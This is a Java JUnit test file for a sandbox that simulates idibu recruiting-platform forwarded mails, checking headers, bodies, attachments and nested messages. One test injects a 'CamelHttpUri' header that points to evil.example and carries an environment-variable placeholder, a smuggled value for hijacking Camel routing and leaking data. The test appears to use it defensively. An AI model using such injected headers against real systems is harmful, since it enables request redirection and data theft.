package org.applicantrelay.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.BodyPart;
import jakarta.mail.Multipart;
import jakarta.mail.Session;
import jakarta.mail.internet.ContentDisposition;
import jakarta.mail.internet.ContentType;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeUtility;
import java.io.ByteArrayInputStream;
import java.io.UnsupportedEncodingException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import org.applicantrelay.sandbox.ForwardedMail.Body;
import org.applicantrelay.sandbox.ForwardedMail.FileNames;
import org.applicantrelay.sandbox.ForwardedMail.Wrapping;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** The forwarded mail, read by Angus Mail, against idibu-applicant-management.txt and quirks 19 to 22 of idibu.md. */
class ForwardedMailTest {

    private static final String TITLE = "Ärztin für „Notfälle“ – Zürich & Umgebung, nachts und am Wochenende";
    private static final String LONG_NAME = "Zoë Noël – Lebenslauf mit allen Zeugnissen und Anlagen (Endfassung).pdf";

    private final IdibuSimulator idibu = new IdibuSimulator();

    @AfterEach
    void close() {
        idibu.close();
    }

    @Test
    void allHeadersAreThereEncodedAndFolded() throws Exception {
        idibu.addJob(7, "VTEST#1", TITLE);
        byte[] raw = idibu.mail(idibu.add(person().portal(33L, "Café & Söhne")
                        .clientReference("KEY-0815")
                        .build()))
                .raw();

        MimeMessage mail = read(raw);
        assertThat(idibuHeaders(mail))
                .containsExactly(
                        "X-iTrackID: 70001",
                        "X-iTrackID-ClientID: 4242",
                        "X-iTrackID-PortalID: 33",
                        "X-iTrackID-Portal-Name: Café & Söhne",
                        "X-iTrackID-ClientSettingsID: 602",
                        "X-iTrackID-ClientSettings-Name: Kim Recruiter (kim.recruiter@example.org)",
                        "X-iTrackID-Office: Sandbox Office",
                        "X-iTrackID-Team: Sandbox Team",
                        "X-iTrackID-PostLogID: 333070001",
                        "X-iTrackID-JobID: 7",
                        "X-iTrackID-Title: " + TITLE,
                        "X-iTrackID-Reference: VTEST#1",
                        "X-iTrackID-Type: 2 Permanent",
                        "X-iTrackID-ClientReference: KEY-0815");
        String text = new String(raw, StandardCharsets.ISO_8859_1);
        assertThat(text.replace("\r\n", "")).doesNotContain("\n", "\r");
        assertThat(text).containsPattern("X-iTrackID-Title: =\\?UTF-8\\?[QB]\\?[^ ]+\\?=\r\n =\\?UTF-8");
        assertThat(text.substring(0, text.indexOf("\r\n\r\n")).split("\r\n"))
                .allSatisfy(
                        line -> assertThat(line).hasSizeLessThanOrEqualTo(76).matches("[ -~]+"));
        assertThat(mail.getMessageID()).endsWith("@idibu.sandbox.example>");
        assertThat(mail.getFrom()[0]).hasToString("zoe@example.org");
        assertThat(mail.getSentDate()).isNotNull();
    }

    @Test
    void longAsciiValuesAreFoldedToo() throws Exception {
        String title = "A  very " + "long ".repeat(30) + "title";
        byte[] raw = mail().title(title).raw();
        assertThat(new String(raw, StandardCharsets.US_ASCII))
                .contains("X-iTrackID-Title: A  very long")
                .contains("long\r\n long");
        assertThat(idibuHeaders(read(raw))).contains("X-iTrackID-Title: " + title);
    }

    @Test
    void olderMailsSpellTheHeadersInAnotherWay() throws Exception {
        idibu.addJob(7, "VTEST#1", TITLE);
        MimeMessage mail =
                read(mail().clientReference("Some-CUSTOM-Ref").oldSpelling().raw());
        assertThat(idibuHeaders(mail))
                .extracting(line -> line.substring(0, line.indexOf(':')))
                .contains(
                        "X-Itrackid",
                        "X-Itrackid-Portalid",
                        "X-Itrackid-Portal-Name",
                        "X-Itrackid-Clientsettingsid",
                        "X-Itrackid-Clientsettings-Name",
                        "X-Itrackid-Postlogid",
                        "X-Itrackid-Jobid",
                        "X-Itrackid-ClientReference")
                .hasSize(14);
    }

    @Test
    void headersCanBeLeftOutChangedAndAdded() throws Exception {
        MimeMessage mail = read(mail().withoutTrackId()
                .clientId(null)
                .withoutMessageId()
                .tracking("-Type", "4 Temporary")
                .header("CamelHttpUri: http://evil.example/?x={{env:HOME}}")
                .header("X-iTrackID-Team: =?x-none?Q?=E4?=")
                .raw());
        assertThat(mail.getHeader("X-iTrackID")).isNull();
        assertThat(mail.getHeader("X-iTrackID-ClientID")).isNull();
        assertThat(mail.getHeader("X-iTrackID-ClientReference")).isNull();
        assertThat(mail.getMessageID()).isNull();
        assertThat(mail.getHeader("X-iTrackID-Type")).containsExactly("4 Temporary");
        assertThat(mail.getHeader("CamelHttpUri")).containsExactly("http://evil.example/?x={{env:HOME}}");
        assertThat(mail.getHeader("X-iTrackID-Team")).containsExactly("=?x-none?Q?=E4?=", "Sandbox Team");
        assertThat(read(mail().trackId("33139609").messageId("<a@b>").raw()).getHeader("X-iTrackID"))
                .containsExactly("33139609");
    }

    @Test
    void theLetterIsTextOrHtmlOrBoth() throws Exception {
        SimulatedApplicant plain =
                idibu.add(person().message("S", "Grüße\nund = Küsse", "").build());
        MimeMessage text = read(idibu.mail(plain).raw());
        assertThat(text.getContentType()).isEqualTo("text/plain; charset=UTF-8");
        assertThat(text.getContent()).isEqualTo("Grüße\r\nund = Küsse");
        assertThat(text.getSubject()).isEqualTo("S");

        MimeMessage html =
                read(idibu.mail(plain).body(Body.HTML).charset("ISO-8859-1").raw());
        assertThat(html.getContentType()).isEqualTo("text/html; charset=ISO-8859-1");
        assertThat(html.getContent()).isEqualTo("<p>Grüße\r\nund = Küsse</p>");

        SimulatedApplicant both =
                idibu.add(person().message("S", "a", "<b>a</b>").build());
        Multipart alternative = (Multipart) read(idibu.mail(both).raw()).getContent();
        assertThat(alternative.getContentType()).startsWith("multipart/alternative");
        assertThat(alternative.getBodyPart(0).getContent()).isEqualTo("a");
        assertThat(alternative.getBodyPart(1).getContent()).isEqualTo("<b>a</b>");

        Multipart related = (Multipart)
                read(idibu.mail(both).body(Body.HTML).inlineImage().raw()).getContent();
        assertThat(related.getContentType()).startsWith("multipart/related");
        assertThat(related.getBodyPart(1).getDisposition()).isEqualTo("inline");
        assertThat(related.getBodyPart(1).getHeader("Content-ID")).containsExactly("<logo@sandbox>");
        assertThat(related.getBodyPart(1).getInputStream().readAllBytes()).startsWith(0x89, 'P', 'N', 'G');
    }

    @Test
    void aCharsetThatDoesNotExistStaysInTheMail() throws Exception {
        byte[] raw = mail().charset("x-bogus").raw();
        assertThat(read(raw).getContentType()).isEqualTo("text/plain; charset=x-bogus");
    }

    @Test
    void filesAreByteEqualUnderAnyName() throws Exception {
        byte[] cv = SampleCv.pdf("Zoë", 30_000);
        byte[] letter = SampleCv.text("Zoë", 700);
        SimulatedApplicant applicant = idibu.add(
                person().file(LONG_NAME, cv).file("a \"b\".txt", letter).build());

        for (FileNames names : FileNames.values()) {
            Multipart mixed = (Multipart)
                    read(idibu.mail(applicant).fileNames(names).raw()).getContent();
            assertThat(mixed.getContentType()).startsWith("multipart/mixed");
            assertThat(mixed.getCount()).isEqualTo(3);
            assertThat(mixed.getBodyPart(1).getInputStream().readAllBytes())
                    .as(names.name())
                    .isEqualTo(cv);
            assertThat(mixed.getBodyPart(2).getInputStream().readAllBytes())
                    .as(names.name())
                    .isEqualTo(letter);
            List<String> expected =
                    switch (names) {
                        case QUOTED, RFC_2231 -> List.of(LONG_NAME, "a \"b\".txt");
                        case SAME -> List.of(LONG_NAME, LONG_NAME);
                        case NONE -> Arrays.asList(null, null);
                    };
            assertThat(Arrays.asList(name(mixed.getBodyPart(1)), name(mixed.getBodyPart(2))))
                    .as(names.name())
                    .isEqualTo(expected);
        }
        String raw =
                new String(idibu.mail(applicant).fileNames(FileNames.RFC_2231).raw(), StandardCharsets.US_ASCII);
        assertThat(raw).contains("filename*0*=UTF-8''Zo%C3%AB", "filename*1*=", "filename*=UTF-8''a%20%22b%22.txt");
        assertThat(raw).contains("Content-Type: application/pdf\r\n").doesNotContain("name=\"");
    }

    @Test
    void aMailLiesInAnotherOne() throws Exception {
        byte[] cv = SampleCv.pdf("Zoë", 3_000);
        SimulatedApplicant applicant = idibu.add(person().file("cv.pdf", cv).build());

        MimeMessage person = read(idibu.mail(applicant)
                .wrapped(Wrapping.FORWARDED_BY_A_PERSON)
                .header("X-Outside: 1")
                .raw());
        assertThat(idibuHeaders(person)).isEmpty();
        assertThat(person.getHeader("X-Outside")).containsExactly("1");
        MimeMessage inside = nested(person, 1);
        assertThat(inside.getHeader("X-iTrackID")).containsExactly("70001");
        assertThat(inside.getMessageID()).isNotEqualTo(person.getMessageID());
        assertThat(((Multipart) inside.getContent())
                        .getBodyPart(1)
                        .getInputStream()
                        .readAllBytes())
                .isEqualTo(cv);

        MimeMessage idibus =
                read(idibu.mail(applicant).wrapped(Wrapping.ORIGINAL_ATTACHED).raw());
        assertThat(idibus.getHeader("X-iTrackID")).containsExactly("70001");
        MimeMessage original = nested(idibus, 0);
        assertThat(idibuHeaders(original)).isEmpty();
        assertThat(((Multipart) original.getContent())
                        .getBodyPart(1)
                        .getInputStream()
                        .readAllBytes())
                .isEqualTo(cv);
    }

    private ForwardedMail mail() {
        return idibu.mail(idibu.add(person().build()));
    }

    private static NewApplicant.Builder person() {
        return NewApplicant.builder().email("zoe@example.org").jobId(7L).jobReference("VTEST#1");
    }

    private static MimeMessage nested(MimeMessage outside, int place) throws Exception {
        return (MimeMessage)
                ((Multipart) outside.getContent()).getBodyPart(place).getContent();
    }

    /** Both places where a name can stand, decoded in the way of the standard or of mail programs. */
    private static String name(BodyPart part) throws Exception {
        String disposition = new ContentDisposition(part.getHeader("Content-Disposition")[0]).getParameter("filename");
        String type = new ContentType(part.getContentType()).getParameter("name");
        String name = disposition == null ? null : MimeUtility.decodeText(disposition);
        assertThat(type == null ? name : MimeUtility.decodeText(type)).isEqualTo(name);
        return name;
    }

    /** Unfolded and decoded, in their order. */
    private static List<String> idibuHeaders(MimeMessage mail) throws Exception {
        return Collections.list(mail.getAllHeaders()).stream()
                .filter(header -> header.getName().toLowerCase(Locale.ROOT).startsWith("x-itrackid"))
                .map(header -> header.getName() + ": " + decoded(header.getValue()))
                .toList();
    }

    private static String decoded(String value) {
        try {
            return MimeUtility.decodeText(MimeUtility.unfold(value));
        } catch (UnsupportedEncodingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static MimeMessage read(byte[] raw) throws Exception {
        return new MimeMessage((Session) null, new ByteArrayInputStream(raw));
    }
}
